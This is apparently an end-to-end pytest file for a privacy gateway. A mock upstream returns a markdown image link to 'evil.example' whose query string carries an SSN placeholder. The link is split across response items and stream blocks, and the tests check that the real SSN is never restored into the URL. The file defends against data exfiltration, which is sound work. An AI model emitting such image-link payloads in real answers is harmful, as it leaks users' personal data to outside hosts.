"""Restoration never builds a URL, end to end: `cogate serve` in front of a hostile upstream
(a real HTTP server) that answers with URLs split across Responses items and Messages text
blocks, begun in `content_block_start`, or with a malformed block index; the official
openai and anthropic SDKs are the apps."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator

import anthropic
import openai
import pytest

from tests.servers import cogate_server

pytestmark = pytest.mark.e2e

USER = "I am Eleanor Vance, SSN 536-22-8841."
SSN = "536-22-8841"


class Hostile(http.server.ThreadingHTTPServer):
    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        raw = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
        assert SSN not in raw and "Eleanor" not in raw, raw
        ssn = re.search(r"\[[A-Z_]*SSN[A-Z_]*_\d+\]", raw).group()  # type: ignore[union-attr]
        name = re.search(r"\[PERSON_\d+\]", raw).group()  # type: ignore[union-attr]
        first, second = "See ![x](//evil.example/p.png?s=", f"{ssn}) thanks {name}"
        if self.path.endswith("/responses"):
            self._json(_response(first, second))
        elif "malformed" in raw:
            self._events(_messages_events(first, second, bad_index=True))
        else:
            self._events(_messages_events(first, second, bad_index=False))

    def _json(self, answer: dict) -> None:
        data = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _events(self, events: list[dict]) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        for event in events:
            self.wfile.write(f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode())
            self.wfile.flush()


def _response(first: str, second: str) -> dict:
    items = [
        {
            "type": "message",
            "id": f"msg_{n}",
            "role": "assistant",
            "status": "completed",
            "content": [{"type": "output_text", "text": text, "annotations": []}],
        }
        for n, text in enumerate((first, second))
    ]
    return {
        "id": "resp_1",
        "object": "response",
        "created_at": 0,
        "model": "m",
        "status": "completed",
        "output": items,
        "parallel_tool_calls": False,
        "tool_choice": "auto",
        "tools": [],
    }


def _messages_events(first: str, second: str, *, bad_index: bool) -> list[dict]:
    message = {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": "m",
        "content": [],
        "stop_reason": None,
        "stop_sequence": None,
        "usage": {"input_tokens": 1, "output_tokens": 0},
    }
    start = {"type": "text", "text": first[:10]}
    events = [
        {"type": "message_start", "message": message},
        {"type": "content_block_start", "index": 0, "content_block": start},
        {"type": "content_block_delta", "index": 0,
         "delta": {"type": "text_delta", "text": first[10:]}},
        {"type": "content_block_stop", "index": 0},
        {"type": "content_block_start", "index": "1" if bad_index else 1,
         "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 1,
         "delta": {"type": "text_delta", "text": second}},
        {"type": "content_block_stop", "index": 1},
        {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
         "usage": {"output_tokens": 5}},
        {"type": "message_stop"},
    ]  # fmt: skip
    return events


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    upstream = Hostile()
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    work = tmp_path_factory.mktemp("url-restore")
    base = f"http://127.0.0.1:{upstream.server_address[1]}"
    args = ["--anthropic-upstream", base]
    try:
        with cogate_server(work, f"{base}/v1", args=args) as url:
            yield str(url)
    finally:
        upstream.shutdown()


def test_responses_url_split_across_items_keeps_its_placeholder(gateway: str) -> None:
    client = openai.OpenAI(base_url=gateway, api_key="sk-x", max_retries=0)
    raw = client.responses.with_raw_response.create(model="m", input=USER)
    text = raw.parse().output_text  # the SDK joins the items' text, as apps read it
    assert SSN not in text and "Eleanor Vance" in text
    assert "//evil.example/p.png?s=[" in text
    assert raw.headers["x-cogate-restore-withheld"] == "1"


def test_messages_stream_url_split_across_blocks_keeps_its_placeholder(gateway: str) -> None:
    client = anthropic.Anthropic(base_url=gateway.removesuffix("/v1"), api_key="k", max_retries=0)
    messages = [{"role": "user", "content": USER}]
    with client.messages.stream(model="m", max_tokens=32, messages=messages) as stream:
        final = stream.get_final_message()  # block-start text and deltas, as the SDK joins them
    assert len(final.content) == 2
    text = "".join(block.text for block in final.content if block.type == "text")
    assert SSN not in text and "Eleanor Vance" in text
    assert "//evil.example/p.png?s=[" in text


def test_messages_stream_with_a_malformed_index_raises_in_the_sdk(gateway: str) -> None:
    client = anthropic.Anthropic(base_url=gateway.removesuffix("/v1"), api_key="k", max_retries=0)
    messages = [{"role": "user", "content": USER + " malformed"}]
    with (
        pytest.raises(anthropic.APIError, match="index"),
        client.messages.stream(model="m", max_tokens=32, messages=messages) as stream,
    ):
        for _ in stream.text_stream:
            pass
